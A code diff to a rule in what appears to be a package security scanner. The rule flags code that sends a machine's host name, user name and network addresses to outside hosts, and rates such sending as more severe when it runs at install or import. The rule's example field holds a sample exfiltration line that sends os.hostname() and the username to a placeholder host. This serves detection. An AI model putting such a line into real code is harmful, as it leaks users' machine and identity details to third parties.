@@ -1,7 +1,7 @@
 import { isLocalHost } from "../hosts.ts";
 import type { Rule, Sighting } from "../rule.ts";
 import type { LensView } from "../view.ts";
-import { placeOf, runsAtLoad } from "../view.ts";
+import { placeOf } from "../view.ts";
 import type { Use } from "../../program/uses.ts";
 
 /** Facts that say which machine and which person this is, not only what kind of machine. */
@@ -13,7 +13,7 @@ export const sendsHostFacts: Rule = {
   title: "Tells somebody which machine this is",
   why:
     "Host name, user name and addresses of the network are what the first message of an intruder " +
-    "holds, and what dependency-confusion probes report. Telemetry does without them.",
+    "holds, and what dependency-confusion probes report. Telemetry does without them, and waits until it is used.",
   example:
     'https.get("https://collect.invalid/?h=" + os.hostname() + "&u=" + os.userInfo().username);',
   advice:
@@ -22,11 +22,6 @@ export const sendsHostFacts: Rule = {
   confidence: "medium",
   look: (view) => view.sends.flatMap((use) => sightingOf(use, view)),
 };
-
-/** Honest telemetry waits until it is asked for something. */
-function runsOnImport({ module, call }: Use, view: LensView): boolean {
-  return view.isReachedFrom(module, "entry-point") && runsAtLoad(call.scope.fn);
-}
 
 function sightingOf(use: Use, view: LensView): readonly Sighting[] {
   const sendings = view
@@ -38,6 +33,7 @@ function sightingOf(use: Use, view: LensView): readonly Sighting[] {
   const atInstall = view.isAtInstall(use.module);
   if (!atInstall && distinct.size < 2) return [];
   const message = `${[...distinct].join(", ")} of this machine: sent to ${first.host}.`;
-  const severity = atInstall || runsOnImport(use, view) ? "high" : "medium";
+  // Honest telemetry waits until it is asked for something.
+  const severity = atInstall || view.isRunByImport(use) ? "high" : "medium";
   return [{ place: placeOf(use), message, severity }];
 }
